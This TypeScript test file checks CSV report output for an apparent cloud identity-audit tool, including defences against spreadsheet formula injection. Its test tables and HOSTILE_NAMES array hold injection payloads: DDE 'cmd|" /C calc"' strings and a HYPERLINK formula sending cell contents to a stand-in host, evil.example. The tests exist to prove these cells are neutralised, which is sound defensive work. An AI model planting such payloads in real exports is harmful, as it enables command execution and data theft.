import { describe, expect, it } from 'vitest';
import { parseCsv, parseCsvRecords } from '../../src/collectors/aws/csv.ts';
import { csvField, FINDING_COLUMNS, IDENTITY_COLUMNS, neutralizeFormula, renderFindingsCsv, renderIdentitiesCsv } from '../../src/reports/csv.ts';
import { renderReport } from '../../src/reports/index.ts';
import { buildReportModel } from '../../src/reports/model.ts';
import type { Identity } from '../../src/model/index.ts';
import { estateInventory, reportInput } from '../fixtures/reports/estate.ts';

describe('neutralizeFormula', () => {
  it.each([
    { name: 'equals', text: '=HYPERLINK("http://x","y")', out: `'=HYPERLINK("http://x","y")` },
    { name: 'plus', text: '+1+1', out: "'+1+1" },
    { name: 'minus', text: '-2+3+cmd|" /C calc"!A0', out: `'-2+3+cmd|" /C calc"!A0` },
    { name: 'at', text: '@SUM(1,1)', out: "'@SUM(1,1)" },
    { name: 'tab', text: '\t=1', out: "'\t=1" },
    { name: 'carriage return', text: '\r=1', out: "'\r=1" },
    { name: 'line feed', text: '\n=1', out: "'\n=1" },
    { name: 'full-width equals', text: '\uFF1D1+1', out: "'\uFF1D1+1" },
  ])('prefixes a cell that could start a formula: $name', ({ text, out }) => {
    expect(neutralizeFormula(text)).toBe(out);
  });

  it.each([
    { name: 'a plain name', text: 'ci-deployer' },
    { name: 'a formula character later on', text: 'a=b+c-d@e' },
    { name: 'an empty string', text: '' },
    { name: 'a leading apostrophe already', text: "'quoted" },
    { name: 'a leading space', text: ' x' },
    { name: 'non-ASCII', text: 'déploiement-服务' },
  ])('leaves a harmless cell alone: $name', ({ text }) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('csvField (RFC 4180)', () => {
  it.each([
    { name: 'plain text', cell: 'abc', out: 'abc' },
    { name: 'a comma', cell: 'a,b', out: '"a,b"' },
    { name: 'a quote', cell: 'say "hi"', out: '"say ""hi"""' },
    { name: 'a line break', cell: 'a\nb', out: '"a\nb"' },
    { name: 'a CR', cell: 'a\rb', out: '"a\rb"' },
    { name: 'a formula with a comma', cell: '=1,2', out: `"'=1,2"` },
    { name: 'null', cell: null, out: '' },
    { name: 'a number', cell: 412, out: '412' },
    { name: 'a negative number of ours', cell: -3, out: '-3' },
    { name: 'a boolean', cell: false, out: 'false' },
  ])('$name', ({ cell, out }) => {
    expect(csvField(cell)).toBe(out);
  });
});

const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|" /C calc"!A0', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'comma, "quote"\nnewline'];

function hostileModel() {
  const identities: Identity[] = HOSTILE_NAMES.map((name, i) => ({
    id: `aws:111122223333:user/hostile-${i}`,
    provider: 'aws',
    kind: 'aws-iam-user',
    scope: '111122223333',
    name,
    labels: { team: '=1+1', '@owner': 'x' },
    disabled: false,
    managed: false,
  }));
  return buildReportModel(reportInput({ inventory: estateInventory({ identities }) }));
}

describe('renderFindingsCsv / renderIdentitiesCsv', () => {
  const model = buildReportModel(reportInput());

  it('writes a header row in the fixed column order, CRLF line ends, one row per finding', () => {
    const csv = renderFindingsCsv(model);
    expect(csv.split('\r\n')[0]).toBe(FINDING_COLUMNS.map((c) => c.header).join(','));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    const rows = parseCsvRecords(csv);
    expect(rows).toHaveLength(model.findings.length);
    expect(rows[0]).toMatchObject({ severity: 'critical', status: 'new', rule_id: 'identity.admin', identity_name: 'ci-deployer', provider: 'aws', scope: '111122223333' });
    expect(rows[0]?.references).toContain('CIS AWS 1.16');
    expect(rows[0]?.evidence).toContain('grantedVia=AdministratorAccess (group admins)');
  });

  it('writes one row per identity with numbers, booleans and labels', () => {
    const csv = renderIdentitiesCsv(model);
    expect(csv.split('\r\n')[0]).toBe(IDENTITY_COLUMNS.map((c) => c.header).join(','));
    const rows = parseCsvRecords(csv);
    expect(rows).toHaveLength(model.identities.length);
    expect(rows.find((r) => r.name === 'ci-deployer')).toMatchObject({
      owner: 'platform-team',
      labels: 'env=prod; owner=platform-team',
      disabled: 'false',
      credentials: '2',
      active_credentials: '1',
      oldest_key_age_days: '412',
      privilege: 'admin',
      verdict: 'migrate',
      worst_severity: 'critical',
    });
    expect(rows.find((r) => r.name === 'runner')).toMatchObject({ owner: '', oldest_key_age_days: '', verdict: 'keep' });
  });

  it('is what `report --format csv` and `--format csv-identities` write', async () => {
    expect(await renderReport('csv', model)).toBe(renderFindingsCsv(model));
    expect(await renderReport('csv-identities', model)).toBe(renderIdentitiesCsv(model));
  });

  it('round-trips hostile names and labels, with every cell inert in a spreadsheet', () => {
    const m = hostileModel();
    for (const csv of [renderIdentitiesCsv(m), renderFindingsCsv(m)]) {
      const cells = parseCsv(csv).flat();
      for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const rows = parseCsvRecords(renderIdentitiesCsv(m));
    for (const name of HOSTILE_NAMES) {
      const expected = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
      expect(rows.some((r) => r.name === expected), JSON.stringify(name)).toBe(true);
    }
    // each hostile identity is one row, not split by its quotes, commas or line breaks
    expect(rows).toHaveLength(m.identities.length);
    expect(rows.find((r) => r.id === 'aws:111122223333:user/hostile-0')?.labels).toBe("'@owner=x; team==1+1");
  });

  it('keeps UTF-8 text as it is', () => {
    const identities: Identity[] = [{ id: 'gcp:p:sa/x', provider: 'gcp', kind: 'gcp-service-account', scope: 'p', name: 'déploiement 服务 🚀', labels: {}, disabled: false, managed: false }];
    const rows = parseCsvRecords(renderIdentitiesCsv(buildReportModel(reportInput({ inventory: estateInventory({ identities }) }))));
    expect(rows.some((r) => r.name === 'déploiement 服务 🚀')).toBe(true);
  });
});
